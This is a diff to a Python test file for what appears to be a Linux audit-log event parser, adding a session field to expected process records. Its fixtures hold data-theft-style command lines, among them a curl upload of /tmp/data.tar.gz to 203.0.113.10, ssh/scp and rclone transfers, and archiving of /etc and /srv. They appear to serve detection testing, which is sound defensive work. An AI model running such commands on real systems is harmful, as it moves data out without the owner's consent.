@@ -29,6 +29,7 @@ TAR = Process(
     args=TAR_ARGS,
     cwd="/tmp",
     user="0",
+    session="3",
     parent=Process(pid=4100),
 )
 OSQUERY = b'{"name":"pack_x_process_events","hostIdentifier":"h","unixTime":1,"columns":{}}\n'
@@ -107,6 +108,7 @@ def test_connect_in_progress_goes_to_its_sockaddr(log: Path, events: list[Event]
             cmd_line="curl -sT /tmp/data.tar.gz https://203.0.113.10/upload",
             args=("curl", "-sT", "/tmp/data.tar.gz", "https://203.0.113.10/upload"),
             user="0",
+            session="3",
             parent=Process(pid=4100),
         ),
         dst_endpoint=Endpoint(ip="203.0.113.10", port=443),
@@ -125,6 +127,7 @@ def test_ipv6_connect_without_a_node_prefix(log: Path, events: list[Event]) -> N
             cmd_line="/usr/bin/ssh -x backup@2001:db8::1 'scp -t /in'",
             args=("/usr/bin/ssh", "-x", "backup@2001:db8::1", "scp -t /in"),
             user="0",
+            session="3",
             parent=Process(pid=5100),
         ),
         dst_endpoint=Endpoint(ip="2001:db8::1", port=443),
@@ -146,6 +149,7 @@ def test_argument_in_chunks_across_two_execve_records(log: Path, events: list[Ev
             args=("sh", "-c", payload),
             cwd="/",
             user="0",
+            session="3",
             parent=Process(pid=5199),
         ),
     )
@@ -157,6 +161,7 @@ def test_execve_with_no_argv_records_is_its_executable(log: Path, events: list[E
         path="/usr/local/bin/rclone",
         cmd_line="/usr/local/bin/rclone",
         user="0",
+        session="3",
         parent=Process(pid=5399),
     )
 
@@ -175,6 +180,7 @@ def test_rename_to_an_archive_name(log: Path, events: list[Event]) -> None:
             args=("mv", "/tmp/stage.bin", "/tmp/stage.7z"),
             cwd="/tmp",
             user="0",
+            session="3",
             parent=Process(pid=5499),
         ),
         file=File(path="/tmp/stage.7z"),
@@ -211,6 +217,7 @@ def test_a_serial_is_per_node(log: Path, events: list[Event]) -> None:
             cmd_line="ls",
             args=("ls",),
             user="0",
+            session="3",
             parent=Process(pid=76),
         ),
     )
@@ -232,6 +239,7 @@ def test_out_of_order_records_without_eoe_come_out_at_the_end(
             cmd_line="zip -r /tmp/x.zip /srv",
             args=("zip", "-r", "/tmp/x.zip", "/srv"),
             user="0",
+            session="3",
             parent=Process(pid=5299),
         ),
     )
@@ -280,6 +288,7 @@ def test_ausearch_separators_are_framing(fixtures: Path) -> None:
                 args=("tar", "-czf", "/tmp/out.tgz", "/etc"),
                 cwd="/root",
                 user="0",
+                session="1",
                 parent=Process(pid=900),
             ),
         )
